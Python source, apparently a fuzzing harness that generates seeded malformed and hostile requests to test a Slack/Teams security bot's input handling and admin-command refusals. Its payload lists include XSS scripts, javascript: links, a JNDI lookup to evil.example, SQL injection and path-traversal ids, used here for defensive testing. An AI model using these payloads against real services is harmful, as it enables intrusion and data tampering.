"""The hostile inputs of ``bench/fuzz.py``: every door's malformed requests and hostile text, made from a seed.

``build(seed, total, ...)`` returns ``total`` ``Probe``s, the same ones for the same seed: what to send
where, how to sign it at send time (Slack's signature and Teams' token carry the clock, so they are
made when the probe goes out), and what the probe is for, so that the driver can judge the answer:

* ``door``: which door it knocks on (``slack``, ``teams``, ``teams-auth``, ``public``, ``oauth``);
  ``service``: which ``secbot serve`` receives it (``main``: Slack with a bot token and Teams in
  emulator mode; ``auth``: Slack OAuth and Teams with its token check on).
* ``n``: the probe's number, written into every id the service echoes back to a platform (Slack
  channel, user and ``response_url``; Teams conversation and Entra object id; as ``FZ<n>``), so what
  reached the fake Slack or Teams connector can be traced to the probe that caused it.
* ``admin``: set on a reader asking for an admin command (``set``, ``confirm``, ``announce …``,
  ``subscribe`` while subscriptions are admin-only…), from an actor used by no other probe; the
  service must refuse it and write a ``refused`` audit row for that actor.

Hostile text never touches an admin command's own words, only what follows them: a refusal is
expected only where the command word survives any cleaning the service does.
"""

from __future__ import annotations

import json
import random
import re
import string
from dataclasses import dataclass, field
from urllib.parse import quote, quote_plus, urlencode

from secbot.commands.dispatch import REGISTRY
from secbot.commands.registry import ADMIN
from tests.fakes import workspace

TEAM = workspace.TEAM_ID
TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47"
BOT_ID = "28:00000000-0000-4000-8000-00000000a11d"
ADMIN_TEAM_GROUP = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"  # SECBOT_ADMIN_TEAMS_TEAMS: membership is looked up
ADMIN_USERGROUP = "S0ADMINS"  # SECBOT_ADMIN_SLACK_USERGROUPS: readers are looked up and not found
SLACK_ADMIN = f"slack:{TEAM}:UADMIN"  # named in SECBOT_ADMINS; no probe comes from it
TEAMS_ADMIN = f"teams:{TENANT}:00000000-0000-4000-8000-0000000ad111"
SUBSCRIPTION_CHANGES = ("subscribe", "unsubscribe")  # admin-only in this bench (SECBOT_SUBSCRIPTIONS_ADMIN_ONLY)

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
KB = 1024
HUGE_BODY = 2 * KB * KB  # beyond aiohttp's 1 MiB request limit
LONG_TEXT = 100 * KB

# Shares of the probes per door (of --inputs).
SHARES = {"slack": 0.46, "teams": 0.30, "teams-auth": 0.10, "public": 0.10, "oauth": 0.04}
DOOR_SERVICE = {"slack": "main", "teams": "main", "teams-auth": "auth", "public": None, "oauth": "auth"}


@dataclass(frozen=True)
class AdminAttempt:
    actor: str  # the audit log's identity: slack:<team>:<user> or teams:<tenant>:<object id>
    command: str  # the admin command's name


@dataclass
class Probe:
    n: int
    door: str
    kind: str  # what is hostile about it, for the tables of failures
    service: str  # "main" or "auth"
    method: str
    path: str  # percent-encoded path and query, sent as is
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    slack_signing: str | None = None  # valid | none | wrong | stale | future | garbage-ts | v1
    teams_token: str | None = None  # valid | none | garbage | basic | other-key | audience | issuer | expired | …
    token_service_url: str | None = None  # the serviceurl claim of a valid Teams token
    admin: AdminAttempt | None = None
    inline: bool = False  # the answer comes in the HTTP response (slash commands, Teams invokes)
    oauth_state: bool = False  # start an install first; its state (and cookie) replace "{state}" in the path

    @property
    def tag(self) -> str:
        return f"FZ{self.n:06d}"


TAG = re.compile(r"fz(\d{6})", re.IGNORECASE)


def tag_of(text: str | None) -> int | None:
    """The probe number in an id the service passed on to a platform, if any."""
    found = TAG.search(text or "")
    return int(found.group(1)) if found else None


# -- hostile text ------------------------------------------------------------------------------
MRKDWN = [
    "<!channel> MP161",
    "<!here|here> <!everyone>",
    "<@U0ADMIN> set MP161",
    "<#C0SECRET|secret> MP161",
    "<https://evil.example/phish|MP161 status>",
    "*MP161* _x_ ~y~ `code` ```block``` > quote",
    "&lt;script&gt;alert(1)&lt;/script&gt; <script>alert(1)</script>",
    "[MP161](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "<at>secbot</at><at>someone</at> MP161",
    "MP161 \u202eevil\u202c \u2066rtl\u2069",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n '; DROP TABLE modifications; --",
    "MP161' OR '1'='1",
    "\\u0000 \\ud800 %00 &#0; &#xD800;",
]
REFERENCE_LIKE = [
    "MP161",
    "ＭＰ１６１",
    "MP" + "9" * 400,
    "MP-161",
    "SECMP0161",
    "MP161A" * 50,
    "MP161 timeline",
    "mp 122a",
    "MP0",
    "MP-0",
    "DP113 MP161 MP162 " * 20,
    "https://smartenergycodecompany.co.uk/modifications/mp161/",
]
CONTROL_CHARS = [chr(c) for c in range(0, 32)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
UNICODE_RANGES = [
    (0x20, 0x7E),
    (0xA0, 0x24F),
    (0x300, 0x36F),  # combining marks
    (0x590, 0x6FF),  # Hebrew, Arabic
    (0x200B, 0x200F),  # zero-width, direction marks
    (0x202A, 0x202E),  # bidirectional overrides
    (0x2066, 0x2069),
    (0x4E00, 0x4FFF),
    (0xE000, 0xE0FF),  # private use
    (0xFE00, 0xFE0F),  # variation selectors
    (0xFEFF, 0xFEFF),
    (0xFFF9, 0xFFFF),  # specials, non-characters
    (0x1F300, 0x1F6FF),  # emoji
    (0xE0000, 0xE007F),  # tags
    (0x10FFFE, 0x10FFFF),
]


def random_unicode(rng: random.Random, length: int) -> str:
    chars = []
    for _ in range(length):
        low, high = rng.choice(UNICODE_RANGES)
        chars.append(chr(rng.randint(low, high)))
    return "".join(chars)


def garbage(rng: random.Random) -> str:
    """A short hostile fragment: the stuff of arguments."""
    pick = rng.randrange(9)
    if pick == 0:
        return "\x00" * rng.randint(1, 5) + "MP161"
    if pick == 1:
        return "MP161 " + rng.choice(["\ud800", "\udfff", "\udc00x", "\ud83d"])
    if pick == 2:
        return "".join(rng.choice(CONTROL_CHARS) for _ in range(rng.randint(1, 20)))
    if pick == 3:
        return rng.choice(MRKDWN)
    if pick == 4:
        return random_unicode(rng, rng.randint(1, 60))
    if pick == 5:
        return rng.choice(REFERENCE_LIKE)
    if pick == 6:
        return "".join(rng.choice(string.printable) for _ in range(rng.randint(1, 80)))
    if pick == 7:
        return str(rng.choice([0, -1, 2**63, 10**400, "1e999", "NaN", "-0", "0x41", "32 December 2021", "2021-02-31"]))
    return "\udcff\udcfe MP161 \udcc0\udc80"  # bytes that are not UTF-8 at all (sent raw, or escaped)


def hostile_text(rng: random.Random) -> tuple[str, str]:
    """(kind, text): a whole message of one hostile sort."""
    pick = rng.randrange(10)
    if pick == 0:
        return "nul", rng.choice(["\x00", "MP161\x00", "\x00MP161", "MP\x00161", "search \x00\x00 firmware"])
    if pick == 1:
        return "lone surrogate", rng.choice(["\ud800", "MP161\udfff", "search \ud83d", "\udc00\ud800 MP161"])
    if pick == 2:
        return "not UTF-8", rng.choice(["\udcff", "MP161 \udcc0\udc80", "\udced\udca0\udc80 search", "\udcfe\udcff"])
    if pick == 3:
        filler = rng.choice(["MP161 ", "a", "\u00e9", "\U0001f600", "search firmware ", "<!channel> "])
        return "100 KB", (filler * (LONG_TEXT // len(filler.encode())))[: LONG_TEXT // 2]
    if pick == 4:
        return "control chars", "".join(rng.choice([*CONTROL_CHARS, "MP161", " "]) for _ in range(rng.randint(1, 60)))
    if pick == 5:
        return "mrkdwn injection", rng.choice(MRKDWN)
    if pick == 6:
        return "random unicode", random_unicode(rng, rng.randint(1, 300))
    if pick == 7:
        return "reference-like", rng.choice(REFERENCE_LIKE)
    if pick == 8:
        return "whitespace", rng.choice(["", " ", "\u00a0", "\t\n\r", "\u3000" * 10, "\u2028\u2029", "\n" * 1000])
    return "garbage", garbage(rng)


READER_WORDS = [
    word
    for command in REGISTRY
    if command.role != ADMIN and command.name not in SUBSCRIPTION_CHANGES
    for word in (command.name, *command.aliases)
]
ADMIN_COMMANDS = [command for command in REGISTRY if command.role == ADMIN] + [
    REGISTRY.commands[name] for name in SUBSCRIPTION_CHANGES
]


def reader_command(rng: random.Random) -> tuple[str, str]:
    word = rng.choice(READER_WORDS)
    # "wg" followed by "add", "move" or "agenda" would be an admin command; garbage never starts with them.
    return f"command word: {word}", f"{word} {garbage(rng)}"


def admin_command(rng: random.Random) -> tuple[str, str, str]:
    """(kind, command name, text): an admin command, its words intact, with real or hostile arguments."""
    command = rng.choice(ADMIN_COMMANDS)
    examples = [e[len(command.name) :] for e in command.examples if e.lower().startswith(command.name)]
    args = rng.choice(examples) if examples and rng.random() < 0.5 else ""
    if not args or rng.random() < 0.6:
        args += " " + garbage(rng)
    prefix = rng.choice(["", "", "", "/sec ", "secbot: ", "sec ", "  "])
    name = command.name if rng.random() < 0.8 else command.name.upper()
    return f"admin: {command.name}", command.name, f"{prefix}{name} {args.strip()}"


def message_text(rng: random.Random, admin_share: float = 0.25) -> tuple[str, str, str | None]:
    """(kind, text, admin command name or None) for a well-formed message."""
    roll = rng.random()
    if roll < admin_share:
        return admin_command(rng)
    if roll < admin_share + 0.25:
        kind, text = reader_command(rng)
        return kind, text, None
    kind, text = hostile_text(rng)
    return kind, text, None


# -- encodings ---------------------------------------------------------------------------------
_SURROGATES = re.compile(r"[\ud800-\udfff]")


def raw_bytes(text: str) -> bytes:
    """``text`` as UTF-8, with U+DC80..U+DCFF as the bytes they stand for (surrogateescape) and any
    other lone surrogate as its three (invalid) UTF-8 bytes: a body no strict decoder accepts."""
    out = []
    last = 0
    for found in _SURROGATES.finditer(text):
        out.append(text[last : found.start()].encode())
        char = found.group()
        out.append(
            bytes([ord(char) - 0xDC00]) if 0xDC80 <= ord(char) <= 0xDCFF else char.encode("utf-8", "surrogatepass")
        )
        last = found.end()
    out.append(text[last:].encode())
    return b"".join(out)


def json_body(value, raw: bool) -> bytes:
    """JSON with lone surrogates as ``\\ud800`` escapes, or (``raw``) as bytes that are not UTF-8."""
    if raw:
        return raw_bytes(json.dumps(value, ensure_ascii=False))
    return json.dumps(value).encode()


def form_body(fields: dict[str, str], raw: bool) -> bytes:
    """A form; lone surrogates percent-encoded as their UTF-8 bytes, or (``raw``) left as raw bytes."""
    if not raw:
        return urlencode(fields, encoding="utf-8", errors="surrogatepass").encode()
    parts = []
    for name, value in fields.items():
        pieces, last = [], 0
        for found in _SURROGATES.finditer(value):
            pieces.append(quote_plus(value[last : found.start()]).encode())
            pieces.append(raw_bytes(found.group()))
            last = found.end()
        pieces.append(quote_plus(value[last:]).encode())
        parts.append(quote_plus(name).encode() + b"=" + b"".join(pieces))
    return b"&".join(parts)


def has_surrogates(text: str) -> bool:
    return bool(_SURROGATES.search(text))


# -- Slack -------------------------------------------------------------------------------------
def _slack_ids(n: int) -> dict[str, str]:
    return {"user": f"UFZ{n:06d}", "channel": f"CFZ{n:06d}", "dm": f"DFZ{n:06d}", "trigger": f"{n}.1.fz{n:06d}"}


def _slack_actor(n: int) -> str:
    return f"slack:{TEAM}:UFZ{n:06d}"


def slash_command_fields(n: int, text: str, response_url: str, **overrides: str) -> dict[str, str]:
    ids = _slack_ids(n)
    fields = {
        "token": workspace.VERIFICATION_TOKEN,
        "team_id": TEAM,
        "team_domain": workspace.TEAM_DOMAIN,
        "channel_id": ids["channel"],
        "channel_name": "fuzz",
        "user_id": ids["user"],
        "user_name": f"reader{n}",
        "command": "/sec",
        "text": text,
        "api_app_id": workspace.API_APP_ID,
        "is_enterprise_install": "false",
        "response_url": f"{response_url}fz{n:06d}",
        "trigger_id": ids["trigger"],
    }
    fields.update(overrides)
    return fields


def event_envelope(n: int, event: dict) -> dict:
    return {
        "token": workspace.VERIFICATION_TOKEN,
        "team_id": TEAM,
        "api_app_id": workspace.API_APP_ID,
        "event": event,
        "type": "event_callback",
        "event_id": f"EvFZ{n:06d}",
        "event_time": 1_700_000_000,
        "authorizations": [{"enterprise_id": None, "team_id": TEAM, "user_id": workspace.BOT_USER_ID, "is_bot": True}],
        "is_ext_shared_channel": False,
    }


def block_actions(n: int, value: str, response_url: str, action_id: str = "secbot_run_0") -> dict:
    ids = _slack_ids(n)
    return {
        "type": "block_actions",
        "user": {"id": ids["user"], "username": f"reader{n}", "name": f"reader{n}", "team_id": TEAM},
        "api_app_id": workspace.API_APP_ID,
        "token": workspace.VERIFICATION_TOKEN,
        "container": {"type": "message", "message_ts": "1700000000.000100", "channel_id": ids["channel"]},
        "trigger_id": ids["trigger"],
        "team": {"id": TEAM, "domain": workspace.TEAM_DOMAIN},
        "channel": {"id": ids["channel"], "name": "fuzz"},
        "response_url": f"{response_url}fz{n:06d}",
        "actions": [
            {
                "action_id": action_id,
                "block_id": "actions",
                "text": {"type": "plain_text", "text": "Button"},
                "value": value,
                "type": "button",
                "action_ts": "1700000000.000200",
            }
        ],
    }


SLACK_SIGNINGS_REFUSED = ("none", "wrong", "stale", "future", "garbage-ts", "v1")


def slack_wellformed(n: int, rng: random.Random, response_url: str) -> Probe:
    kind, text, admin = message_text(rng)
    raw = has_surrogates(text) and rng.random() < 0.5
    encoding = " (raw bytes)" if raw else ""
    ids = _slack_ids(n)
    shape = rng.choices(["command", "mention", "dm", "button", "share", "link", "home"], [40, 15, 15, 15, 3, 8, 4])[0]
    inline = False
    if shape == "command":
        body, content_type, inline = form_body(slash_command_fields(n, text, response_url), raw), FORM, True
    elif shape in ("mention", "dm"):
        event = {
            "type": "app_mention" if shape == "mention" else "message",
            "text": f"<@{workspace.BOT_USER_ID}> {text}" if shape == "mention" else text,
            "user": ids["user"],
            "ts": "1700000000.000100",
            "team": TEAM,
            "channel": ids["channel"] if shape == "mention" else ids["dm"],
            "event_ts": "1700000000.000100",
        }
        if shape == "dm":
            event["channel_type"] = "im"
        body, content_type = json_body(event_envelope(n, event), raw), JSON
    elif shape in ("button", "share"):
        action_id = "secbot_run_0" if shape == "button" else "secbot_share"
        # As JSON escapes ("\ud800") within the form, or (raw) as bytes that are not UTF-8.
        payload = json.dumps(block_actions(n, text, response_url, action_id), ensure_ascii=not raw)
        body, content_type = form_body({"payload": payload}, raw), FORM
    elif shape == "link":
        admin, kind = None, kind.replace("admin: ", "admin words: ")  # a link is answered as a status question
        url = "https://smartenergycodecompany.co.uk/" + quote(text[:3000], safe="", errors="surrogatepass")
        event = {
            "type": "link_shared",
            "channel": ids["channel"],
            "user": ids["user"],
            "message_ts": "1700000000.000100",
            "links": [
                {"domain": "smartenergycodecompany.co.uk", "url": url},
                {"domain": text[:200], "url": text[:200]},
            ],
            "event_ts": "1700000000.000100",
        }
        body, content_type = json_body(event_envelope(n, event), raw), JSON
    else:
        admin = None
        event = {"type": "app_home_opened", "user": ids["user"], "channel": ids["dm"], "tab": "home"}
        body, content_type = json_body(event_envelope(n, event), False), JSON
        kind = "app home"
    signing = "valid" if rng.random() < 0.93 else rng.choice(SLACK_SIGNINGS_REFUSED)
    return Probe(
        n,
        "slack",
        f"{shape}: {kind}{encoding}" + ("" if signing == "valid" else f", signature {signing}"),
        "main",
        "POST",
        "/slack/events",
        body,
        {"Content-Type": content_type},
        slack_signing=signing,
        admin=AdminAttempt(_slack_actor(n), admin) if admin and signing == "valid" else None,
        inline=inline,
    )


def _slack_malformed_bodies(n: int, rng: random.Random, response_url: str) -> list[tuple[str, bytes, str]]:
    """(kind, body, content type) of requests Slack would never send."""
    ids = _slack_ids(n)
    command = slash_command_fields(n, "MP161", response_url)
    good_event = event_envelope(
        n, {"type": "app_mention", "text": "<@UBOT> MP161", "user": ids["user"], "channel": ids["channel"], "ts": "1.2"}
    )

    def payload(value) -> bytes:
        return urlencode({"payload": json.dumps(value)}).encode()

    deep = rng.choice([2_000, 100_000])
    return [
        ("{x", b"{x", JSON),
        ("{x as form", b"{x", FORM),
        ("JSON list", b"[1, 2, 3]", JSON),
        ("JSON null", b"null", JSON),
        ("JSON string", b'"MP161"', JSON),
        ("JSON number 1e999", b"1e999", JSON),
        ("empty JSON object", b"{}", JSON),
        ("empty body", b"", FORM),
        (f"JSON nested {deep} deep", b"[" * deep + b"]" * deep, JSON),
        (f"JSON object nested {deep} deep", b'{"a":' * deep + b"1" + b"}" * deep, JSON),
        ("payload= not JSON", b"payload=notjson", FORM),
        ("payload= truncated", b"payload=%7B%22type%22", FORM),
        ("payload= list", b"payload=%5B%5D", FORM),
        ("payload= null", b"payload=null", FORM),
        ("payload= number", b"payload=12", FORM),
        ("payload empty", b"payload=", FORM),
        ("block_actions without fields", payload({"type": "block_actions"}), FORM),
        ("block_actions without user", payload({**block_actions(n, "MP161", response_url), "user": None}), FORM),
        ("block_actions, user a string", payload({**block_actions(n, "MP161", response_url), "user": "U1"}), FORM),
        ("block_actions, actions a string", payload({**block_actions(n, "MP161", response_url), "actions": "x"}), FORM),
        ("block_actions, actions empty", payload({**block_actions(n, "MP161", response_url), "actions": []}), FORM),
        (
            "block_actions, action a list",
            payload({**block_actions(n, "MP161", response_url), "actions": [["secbot_run_0"]]}),
            FORM,
        ),
        (
            "block_actions, value a number",
            payload(
                {
                    **block_actions(n, "MP161", response_url),
                    "actions": [{"action_id": "secbot_run_0", "value": 7, "type": "button"}],
                }
            ),
            FORM,
        ),
        (
            "block_actions, team a string",
            payload({**block_actions(n, "MP161", response_url), "team": "T0001", "channel": "C1"}),
            FORM,
        ),
        (
            "block_actions, no response_url",
            payload({k: v for k, v in block_actions(n, "MP161", response_url).items() if k != "response_url"}),
            FORM,
        ),
        (
            "block_actions, response_url elsewhere",
            payload({**block_actions(n, "MP161", response_url), "response_url": "http://127.0.0.1:9/x"}),
            FORM,
        ),
        ("view_submission without view", payload({"type": "view_submission", "user": {"id": ids["user"]}}), FORM),
        ("shortcut", payload({"type": "shortcut", "callback_id": "x", "trigger_id": ids["trigger"]}), FORM),
        ("message_action", payload({"type": "message_action", "callback_id": "x", "message": "x"}), FORM),
        ("block_suggestion", payload({"type": "block_suggestion", "action_id": "x", "value": "\x00"}), FORM),
        ("interactive_message", payload({"type": "interactive_message", "actions": [{}]}), FORM),
        ("bad UTF-8 form", b"command=/sec&text=\xff\xfe\xfd&user_id=" + ids["user"].encode(), FORM),
        ("bad UTF-8 JSON", b'{"type": "event_callback", "event": {"text": "\xed\xa0\x80\xff"}}', JSON),
        ("UTF-16 JSON", json.dumps(good_event).encode("utf-16"), JSON),
        ("BOM then JSON", b"\xef\xbb\xbf" + json.dumps(good_event).encode(), JSON),
        ("form sent as JSON", urlencode(command).encode(), JSON),
        ("event sent as form", json.dumps(good_event).encode(), FORM),
        ("event as text/plain", json.dumps(good_event).encode(), "text/plain"),
        ("multipart without boundary", b"--x\r\n\r\nMP161", "multipart/form-data"),
        ("command only", b"command=%2Fsec", FORM),
        ("text only", b"text=MP161", FORM),
        (
            "command with empty ids",
            urlencode({**command, "user_id": "", "team_id": "", "channel_id": ""}).encode(),
            FORM,
        ),
        (
            "command without trigger_id",
            urlencode({k: v for k, v in command.items() if k != "trigger_id"}).encode(),
            FORM,
        ),
        ("another command", urlencode({**command, "command": "/other"}).encode(), FORM),
        ("command, response_url elsewhere", urlencode({**command, "response_url": "ftp://x/"}).encode(), FORM),
        ("duplicate fields", urlencode(command).encode() + b"&text=set+MP161&user_id=UADMIN", FORM),
        ("ssl_check", b"ssl_check=1&token=x", FORM),
        ("url_verification", json.dumps({"type": "url_verification", "challenge": garbage(rng)}).encode(), JSON),
        ("url_verification without challenge", b'{"type": "url_verification"}', JSON),
        ("event_callback without event", json.dumps({**good_event, "event": None}).encode(), JSON),
        ("event a string", json.dumps({**good_event, "event": "app_mention"}).encode(), JSON),
        ("event a list", json.dumps({**good_event, "event": [1]}).encode(), JSON),
        (
            "app_mention without channel or text",
            json.dumps({**good_event, "event": {"type": "app_mention", "user": ids["user"]}}).encode(),
            JSON,
        ),
        (
            "app_mention, text a list",
            json.dumps({**good_event, "event": {**good_event["event"], "text": ["MP161"]}}).encode(),
            JSON,
        ),
        (
            "app_mention, channel a dict",
            json.dumps({**good_event, "event": {**good_event["event"], "channel": {"id": "C1"}}}).encode(),
            JSON,
        ),
        (
            "message im, text a number",
            json.dumps(
                {
                    **good_event,
                    "event": {
                        "type": "message",
                        "channel_type": "im",
                        "text": 161,
                        "user": ids["user"],
                        "channel": ids["dm"],
                    },
                }
            ).encode(),
            JSON,
        ),
        (
            "link_shared, links a string",
            json.dumps(
                {**good_event, "event": {"type": "link_shared", "links": "x", "channel": ids["channel"]}}
            ).encode(),
            JSON,
        ),
        (
            "link_shared, links of strings",
            json.dumps(
                {**good_event, "event": {"type": "link_shared", "links": ["x", None], "channel": ids["channel"]}}
            ).encode(),
            JSON,
        ),
        (
            "app_home_opened without user",
            json.dumps({**good_event, "event": {"type": "app_home_opened", "tab": "home"}}).encode(),
            JSON,
        ),
        ("authorizations a string", json.dumps({**good_event, "authorizations": "x"}).encode(), JSON),
        ("team_id a list", json.dumps({**good_event, "team_id": ["T1"]}).encode(), JSON),
        ("unknown type", json.dumps({**good_event, "type": "\x00"}).encode(), JSON),
        ("app_rate_limited", json.dumps({"type": "app_rate_limited", "team_id": TEAM}).encode(), JSON),
    ]


def slack_malformed(n: int, rng: random.Random, response_url: str, huge: bool) -> Probe:
    headers: dict[str, str] = {}
    if huge:
        size = rng.choice([HUGE_BODY, 900 * KB])
        kind, body, content_type = f"body of {size // KB} KB", b"text=" + b"a" * size, FORM
    else:
        kind, body, content_type = rng.choice(_slack_malformed_bodies(n, rng, response_url))
    if rng.random() < 0.04:
        headers["Content-Encoding"] = rng.choice(["gzip", "deflate", "br"])
        kind += ", bogus Content-Encoding"
    signing = "valid" if rng.random() < 0.6 else rng.choice(SLACK_SIGNINGS_REFUSED)
    headers["Content-Type"] = content_type
    return Probe(
        n, "slack", f"malformed: {kind}, signature {signing}", "main", "POST", "/slack/events", body, headers, signing
    )


# -- Teams -------------------------------------------------------------------------------------
def _aad(n: int) -> str:
    return f"00000000-0000-4000-8000-{n:012d}"


def _teams_actor(n: int) -> str:
    return f"teams:{TENANT}:{_aad(n)}"


def teams_activity(n: int, service_url: str, text: str | None = "MP161", shape: str = "personal") -> dict:
    """A well-formed activity of ``shape``: personal, channel, group, submit, invoke, install."""
    conversation = {"conversationType": "personal", "tenantId": TENANT, "id": f"a:fz{n:06d}"}
    channel_data: dict = {"tenant": {"id": TENANT}}
    activity: dict = {
        "type": "message",
        "id": f"fz{n:06d}",
        "timestamp": "2026-11-23T09:00:00.000Z",
        "serviceUrl": service_url,
        "channelId": "msteams",
        "from": {"id": f"29:fz{n:06d}", "name": f"Reader {n}", "aadObjectId": _aad(n)},
        "conversation": conversation,
        "recipient": {"id": BOT_ID, "name": "secbot"},
        "locale": "en-GB",
        "textFormat": "plain",
        "channelData": channel_data,
    }
    if shape in ("channel", "group"):
        if shape == "channel":
            conversation.update(
                conversationType="channel", isGroup=True, id=f"19:fz{n:06d}@thread.tacv2;messageid=1700000000100"
            )
            channel_data.update(
                team={"id": f"19:fzteam{n:06d}@thread.tacv2", "name": "SEC WG", "aadGroupId": ADMIN_TEAM_GROUP},
                channel={"id": f"19:fz{n:06d}@thread.tacv2"},
            )
        else:
            conversation.update(conversationType="groupChat", isGroup=True, id=f"19:fz{n:06d}@thread.v2")
        activity["text"] = f"<at>secbot</at> {text}"
        activity["entities"] = [
            {"type": "mention", "text": "<at>secbot</at>", "mentioned": {"id": BOT_ID, "name": "secbot"}}
        ]
    elif shape == "submit":
        activity["replyToId"] = "1700000000050"
        activity["value"] = {"secbot": text}
    elif shape == "invoke":
        activity.update(type="invoke", name="adaptiveCard/action", replyToId="1700000000050")
        activity["value"] = {"action": {"type": "Action.Execute", "verb": "secbot", "data": {"secbot": text}}}
    elif shape == "install":
        activity.update(type="installationUpdate", action="add")
        conversation.update(conversationType="channel", id=f"19:fz{n:06d}@thread.tacv2")
        channel_data["team"] = {"id": f"19:fz{n:06d}@thread.tacv2", "name": text, "aadGroupId": text}
    else:
        activity["text"] = text
    return activity


def teams_wellformed(n: int, rng: random.Random, service_url: str, door: str, service: str) -> Probe:
    kind, text, admin = message_text(rng)
    shape = rng.choices(["personal", "channel", "group", "submit", "invoke", "install"], [40, 20, 5, 15, 15, 5])[0]
    if shape in ("submit", "invoke") and len(text) > 1500:
        text = text[:1500]  # longer commands get no button, so Teams never sends them as one
    if shape == "install":
        admin, kind = None, kind.replace("admin: ", "admin words: ")  # a team name, not a command
    raw = has_surrogates(text) and rng.random() < 0.5
    body = json_body(teams_activity(n, service_url, text, shape), raw)
    return Probe(
        n,
        door,
        f"{shape}: {kind}" + (" (raw bytes)" if raw else ""),
        service,
        "POST",
        "/api/messages",
        body,
        {"Content-Type": JSON},
        teams_token="valid",
        token_service_url=service_url,
        admin=AdminAttempt(_teams_actor(n), admin) if admin else None,
        inline=shape == "invoke",
    )


def _teams_odd(n: int, rng: random.Random, service_url: str) -> list[tuple[str, object]]:
    """(kind, body) of activities the Bot Connector would never send; a body that is ``bytes`` is sent as is."""
    base = teams_activity(n, service_url, "MP161")
    invoke = teams_activity(n, service_url, "MP161", "invoke")

    def with_(activity: dict, **changes) -> dict:
        return {**activity, **changes}

    def without(activity: dict, key: str) -> dict:
        return {k: v for k, v in activity.items() if k != key}

    return [
        ("not JSON", b"{x"),
        ("JSON list", [base]),
        ("JSON string", "message"),
        ("JSON null", None),
        ("empty object", {}),
        ("bad UTF-8", b'{"type": "message", "text": "\xff\xfe"}'),
        ("nested 100000 deep", b"[" * 100_000 + b"]" * 100_000),
        ("type only", {"type": "message"}),
        ("type a number", with_(base, type=7)),
        ("unknown type", with_(base, type="\x00fuzz")),
        ("no serviceUrl", without(base, "serviceUrl")),
        ("serviceUrl ftp", with_(base, serviceUrl="ftp://127.0.0.1/uk/")),
        ("serviceUrl javascript", with_(base, serviceUrl="javascript:alert(1)")),
        ("serviceUrl not a URL", with_(base, serviceUrl="not a url \x00")),
        ("serviceUrl a number", with_(base, serviceUrl=12345)),
        ("serviceUrl a dead port", with_(base, serviceUrl="http://127.0.0.1:9/")),
        ("serviceUrl huge", with_(base, serviceUrl="http://127.0.0.1/" + "a" * 100_000)),
        ("no conversation", without(base, "conversation")),
        ("conversation a list", with_(base, conversation=["a:1"])),
        ("conversation id NUL", with_(base, conversation={"id": f"a:fz{n:06d}\x00", "tenantId": TENANT})),
        ("conversation id huge", with_(base, conversation={"id": f"a:fz{n:06d}" + "x" * 10_000})),
        ("conversation id a number", with_(base, conversation={"id": 161})),
        ("conversation id a path", with_(base, conversation={"id": f"../../fz{n:06d}/../x?y=#z"})),
        ("no from", without(base, "from")),
        ("from a string", with_(base, **{"from": "29:x"})),
        ("from without id", with_(base, **{"from": {"name": "x"}})),
        ("from aadObjectId huge", with_(base, **{"from": {"id": "29:x", "aadObjectId": "\ud800" * 5000}})),
        ("no recipient", without(base, "recipient")),
        ("recipient a list", with_(base, recipient=[BOT_ID])),
        ("channelData.tenant a string", with_(base, channelData={"tenant": "x"})),
        ("channelData.tenant.id a list", with_(base, channelData={"tenant": {"id": ["x"]}})),
        ("channelData a list", with_(base, channelData=[1])),
        ("channelData a string", with_(base, channelData="x")),
        ("channelData.team a string", with_(base, channelData={"team": "19:x", "tenant": {"id": TENANT}})),
        (
            "channelData.team.id hostile",
            with_(
                base,
                channelData={"team": {"id": "../x?\x00", "aadGroupId": ADMIN_TEAM_GROUP}, "tenant": {"id": TENANT}},
                text="set MP161 phase report",
            ),
        ),
        ("text a number", with_(base, text=161)),
        ("text a list", with_(base, text=["MP161"])),
        ("text a dict", with_(base, text={"secbot": "MP161"})),
        ("no text", without(base, "text")),
        ("value a string", with_(base, value="set MP161 phase report")),
        ("value a list", with_(base, value=[{"secbot": "MP161"}])),
        ("value.secbot a number", with_(base, value={"secbot": 161})),
        ("value.secbot a dict", with_(base, value={"secbot": {"x": 1}})),
        ("value.secbot huge", with_(base, value={"secbot": "MP161 " * 50_000})),
        ("attachments a string", with_(base, attachments="x")),
        ("attachments of garbage", with_(base, attachments=[None, 1, {"contentType": 7}])),
        ("entities a string", with_(base, entities="mention")),
        (
            "entities of garbage",
            with_(base, entities=[None, {"type": "mention"}, {"type": "mention", "mentioned": "x"}]),
        ),
        ("id missing", without(base, "id")),
        ("id huge", with_(base, id="fz" + "9" * 100_000)),
        ("id a number", with_(base, id=161)),
        ("timestamp garbage", with_(base, timestamp="32 Smarch", localTimestamp=7)),
        ("locale garbage", with_(base, locale="\x00" * 100)),
        ("channelId not msteams", with_(base, channelId="\x00evil")),
        ("replyToId hostile for More", with_(base, value={"secbot": "list approved page 2"}, replyToId="../\x00")),
        ("invoke without value", without(invoke, "value")),
        ("invoke value a string", with_(invoke, value="MP161")),
        ("invoke value a list", with_(invoke, value=[1])),
        ("invoke action a string", with_(invoke, value={"action": "MP161"})),
        ("invoke data a string", with_(invoke, value={"action": {"type": "Action.Execute", "data": "MP161"}})),
        (
            "invoke data.secbot a number",
            with_(invoke, value={"action": {"type": "Action.Execute", "data": {"secbot": 1}}}),
        ),
        ("invoke without name", without(invoke, "name")),
        ("invoke unknown name", with_(invoke, name="\x00fuzz/odd")),
        ("invoke signin", with_(invoke, name="signin/verifyState", value={"state": "\x00"})),
        ("invoke task/fetch", with_(invoke, name="task/fetch", value={"data": None})),
        ("invoke messaging extension", with_(invoke, name="composeExtension/query", value={"parameters": "x"})),
        (
            "conversationUpdate, membersAdded a string",
            with_(base, type="conversationUpdate", membersAdded="x"),
        ),
        (
            "conversationUpdate, bot added, team hostile",
            with_(
                base,
                type="conversationUpdate",
                membersAdded=[{"id": BOT_ID}],
                channelData={"team": {"id": f"19:fz{n:06d}\x00", "name": "\ud800" * 3}, "tenant": {"id": TENANT}},
            ),
        ),
        (
            "conversationUpdate, bot removed, no team",
            with_(base, type="conversationUpdate", membersRemoved=[{"id": BOT_ID}], channelData={}),
        ),
        ("installationUpdate, action odd", with_(base, type="installationUpdate", action="\x00upgrade")),
